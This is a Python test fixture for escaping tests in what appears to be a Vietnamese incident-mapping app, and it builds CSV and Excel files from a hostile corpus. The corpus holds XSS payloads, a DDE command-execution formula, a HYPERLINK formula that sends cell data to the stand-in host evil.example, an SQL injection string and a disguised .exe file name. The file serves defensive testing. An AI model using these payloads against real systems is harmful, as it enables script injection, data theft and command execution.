"""The hostile corpus shared by the escaping tests (tests/test_hostile.py, the browser test)."""

from __future__ import annotations

import csv
import io
import re

import openpyxl

BIG = "<b>" + "B" * 100_000 + "</b>"
CORPUS: list[str] = [
    '<script>alert("xss")</script>',
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=console.error('XSS-RAN')>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">bấm vào đây</a>',
    '=HYPERLINK("http://evil.example/?"&A1,"Chi tiết")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "a\x00b\x01c\x08d\x1be\x7ff",
    "hóa đơn\u202egpj.exe",
    "'); DROP TABLE incidents;--",
    "</script><script>alert(1)</script>",
    "{{7*7}} ${alert(1)}",
    "x\u2028y\u2029z",
    "giá $x^2$ đồng",
    BIG,
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: Column names a spreadsheet would run as formulas (each starts with one of FORMULA_START).
HOSTILE_HEADERS: list[str] = ["=cmd|' /C calc'!A0", "+1", "@x", "-2", "\t=1+1", "\r=2+2"]


def inert(cells: list[str]) -> bool:
    """No cell of ``cells`` starts like a formula."""
    return not any(str(c).startswith(FORMULA_START) for c in cells)


C0 = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
#: Tags a tooltip may hold: the map's own markup, never the corpus's.
TIP_TAGS = {"b", "br"}


def csv_bytes(
    values: list[str], prefix: str = "H", positions: list[tuple[float, float]] | None = None
) -> bytes:
    """The corpus as a field team's CSV: each value as id, type (every third row), address
    and note; ``positions`` (lat, lon) per row, else a 55 m grid in Hoàn Kiếm."""
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(["ma", "vi_do", "kinh_do", "loai", "ngay", "dia_chi", "ghi_chu"])
    for i, value in enumerate(values):
        lat, lon = (
            positions[i] if positions else (21.0300 + (i // 5) * 0.0005, 105.8450 + (i % 5) * 0.0005)
        )
        kind = value if i % 3 == 0 else "lấn chiếm vỉa hè"
        writer.writerow([f"{prefix}{i}:{value[:30]}", lat, lon, kind, "2025-09-01", value, value])
    return buf.getvalue().encode("utf-8")


def xlsx_bytes(values: list[str]) -> bytes:
    """The same corpus as an Excel file: formula cells stay formulas (openpyxl writes "=…"
    as a formula); characters XML cannot hold are left out of this copy."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["ma", "vi_do", "kinh_do", "loai", "ngay", "dia_chi", "ghi_chu"])
    for i, value in enumerate(values):
        clean = C0.sub("", value)[:32_000]
        ws.append([f"X{i}", 21.0330 + i * 0.0005, 105.8520, "biển quảng cáo", "2025-09-02", clean, clean])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


